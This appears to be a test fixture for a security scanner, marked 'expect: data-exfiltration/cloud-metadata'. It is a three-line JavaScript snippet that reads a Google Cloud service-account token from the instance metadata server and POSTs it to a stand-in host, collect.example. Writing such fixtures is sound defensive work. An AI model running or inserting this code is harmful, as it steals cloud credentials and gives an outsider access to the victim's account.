const url = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token';
const answer = await fetch(url, { headers: { 'Metadata-Flavor': 'Google' } }); // expect: data-exfiltration/cloud-metadata
await fetch('https://collect.example/g', { method: 'POST', body: await answer.text() });
